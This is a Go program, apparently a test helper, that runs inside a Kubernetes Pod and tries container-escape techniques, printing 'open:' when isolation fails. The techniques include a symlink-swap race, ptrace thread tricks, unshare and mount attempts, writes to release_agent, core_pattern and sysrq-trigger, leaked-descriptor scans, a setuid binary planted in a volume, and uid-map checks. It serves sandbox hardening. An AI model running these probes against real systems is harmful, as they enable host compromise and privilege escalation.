// Intruder is what attacks from inside a Pod: its first argument names the attack. It says what it found, and whatever it
// says that begins with "open:" is a door that should have been closed.
package main

import (
	"fmt"
	"io"
	"os"
	"os/signal"
	"path/filepath"
	"runtime"
	"runtime/debug"
	"strings"
	"syscall"
	"time"
	"unsafe"
)

const (
	atFdcwd        = -100
	renameExchange = 2
	afAlg          = 38
	afVsock        = 40
)

func main() {
	if len(os.Args) < 2 {
		fail("name an attack")
	}
	switch attack, arguments := os.Args[1], os.Args[2:]; {
	case attack == "swap" && len(arguments) == 2:
		swap(arguments[0], arguments[1])
	case attack == "look" && len(arguments) == 1:
		look(arguments[0])
	case attack == "traced":
		traced()
	case attack == "kernel":
		kernel()
	case attack == "plant" && len(arguments) == 1:
		plant(arguments[0])
	case attack == "users" && len(arguments) == 1:
		users(arguments[0])
	default:
		fail("no such attack: " + strings.Join(os.Args[1:], " "))
	}
}

func fail(text string) {
	fmt.Println("failed:", text)
	os.Exit(2)
}

// swap exchanges a folder and a link to the root for ever.
func swap(folder, link string) {
	if err := os.MkdirAll(folder, 0o777); err != nil {
		fail(err.Error())
	}
	os.WriteFile(filepath.Join(folder, "inside"), nil, 0o666)
	if err := os.Symlink("/", link); err != nil && !os.IsExist(err) {
		fail(err.Error())
	}
	one, _ := syscall.BytePtrFromString(folder)
	other, _ := syscall.BytePtrFromString(link)
	number := uintptr(316)
	if runtime.GOARCH == "arm64" {
		number = 276
	}
	here := atFdcwd
	fmt.Println("swapping")
	for {
		syscall.Syscall6(number, uintptr(here), uintptr(unsafe.Pointer(one)), uintptr(here), uintptr(unsafe.Pointer(other)), renameExchange, 0)
	}
}

// look says what is in a folder.
func look(folder string) {
	entries, err := os.ReadDir(folder)
	if err != nil {
		fail(err.Error())
	}
	var names []string
	for _, entry := range entries {
		names = append(names, entry.Name())
	}
	fmt.Println("names:", strings.Join(names, " "))
	if _, err := os.Stat(filepath.Join(folder, "etc/shadow")); err == nil {
		fmt.Println("open: the host's root")
	}
}

// traced makes this process's parent, its keeper, the tracer of several threads, some of them stopped.
func traced() {
	signal.Ignore(syscall.SIGUSR1, syscall.SIGTERM)
	// A thread that is stopped keeps its processor, as Go sees it.
	runtime.GOMAXPROCS(16)
	debug.SetGCPercent(-1)
	for number := 0; number < 4; number++ {
		ready := make(chan bool)
		go func(number int) {
			runtime.LockOSThread()
			syscall.RawSyscall(syscall.SYS_PTRACE, 0, 0, 0)
			ready <- true
			for number%2 == 0 {
				syscall.RawSyscall(syscall.SYS_TGKILL, uintptr(os.Getpid()), uintptr(syscall.Gettid()), uintptr(syscall.SIGUSR1))
				syscall.RawSyscall(syscall.SYS_PTRACE, 0, 0, 0)
			}
			select {}
		}(number)
		<-ready
	}
	fmt.Println("traced")
	for {
		time.Sleep(time.Hour)
	}
}

// kernel tries what only the host's root may.
func kernel() {
	try := func(name string, err error) {
		if err == nil || err == syscall.Errno(0) {
			fmt.Println("open:", name)
		}
	}
	_, _, err := syscall.RawSyscall(syscall.SYS_UNSHARE, syscall.CLONE_NEWNS|0x02000000, 0, 0)
	try("unshare", err)
	os.Mkdir("/tmp", 0o777)
	try("mount a cgroup hierarchy", syscall.Mount("cgroup", "/tmp", "cgroup", 0, "memory"))
	try("mount proc", syscall.Mount("proc", "/tmp", "proc", 0, ""))
	for _, family := range []int{afAlg, afVsock} {
		_, socket := syscall.Socket(family, syscall.SOCK_SEQPACKET, 0)
		try(fmt.Sprint("a socket of family ", family), socket)
	}
	agents, _ := filepath.Glob("/sys/fs/cgroup/*/release_agent")
	files := append(agents, "/sys/fs/cgroup/release_agent", "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe",
		"/proc/sysrq-trigger", "/proc/self/attr/../../sys/kernel/core_pattern", "/sys/kernel/uevent_helper", "/proc/kcore")
	for _, name := range files {
		file, err := os.OpenFile(name, os.O_WRONLY, 0)
		if err == nil {
			info, _ := file.Stat()
			// What is masked is the null device.
			if system := info.Sys().(*syscall.Stat_t); system.Rdev != 0x103 {
				fmt.Println("open:", name)
			}
			file.Close()
		}
	}
	for number := 3; number < 64; number++ {
		name, err := os.Readlink(fmt.Sprint("/proc/self/fd/", number))
		if err == nil && !strings.HasPrefix(name, "anon_inode:") && !strings.HasPrefix(name, "/proc/") && !strings.HasPrefix(name, "/sys/fs/cgroup/") {
			fmt.Println("open: descriptor", number, name)
		}
	}
	fmt.Println("tried")
}

// plant leaves a program for root in a volume, says how the volume is mounted, and stays.
func plant(folder string) {
	own, err := os.Open("/proc/self/exe")
	if err != nil {
		fail(err.Error())
	}
	planted, err := os.Create(filepath.Join(folder, "planted"))
	if err != nil {
		fail(err.Error())
	}
	io.Copy(planted, own)
	planted.Close()
	if err := os.Chmod(planted.Name(), 0o6755|os.ModeSetuid|os.ModeSetgid); err != nil {
		fail(err.Error())
	}
	mounts, _ := os.ReadFile("/proc/self/mounts")
	for _, line := range strings.Split(string(mounts), "\n") {
		if fields := strings.Fields(line); len(fields) > 3 && fields[1] == folder {
			fmt.Println("mounted:", fields[3])
			if !strings.Contains(fields[3], "nosuid") || !strings.Contains(fields[3], "nodev") {
				fmt.Println("open: set-user-id bits and devices count in", folder)
			}
		}
	}
	fmt.Println("planted")
	// The volume is there for as long as the Pod.
	for {
		time.Sleep(time.Hour)
	}
}

// users says how this process's users are the host's, and writes to a volume as its root.
func users(volume string) {
	for _, name := range []string{"uid_map", "gid_map"} {
		text, err := os.ReadFile("/proc/self/" + name)
		if err != nil {
			fail(err.Error())
		}
		fields := strings.Fields(string(text))
		fmt.Println(name, strings.Join(fields, " "))
		if len(fields) < 3 || fields[1] == "0" {
			fmt.Println("open: root here is root on the host")
		}
	}
	if err := os.WriteFile(filepath.Join(volume, "own"), nil, 0o600); err != nil {
		fail(err.Error())
	}
	fmt.Println("wrote")
}
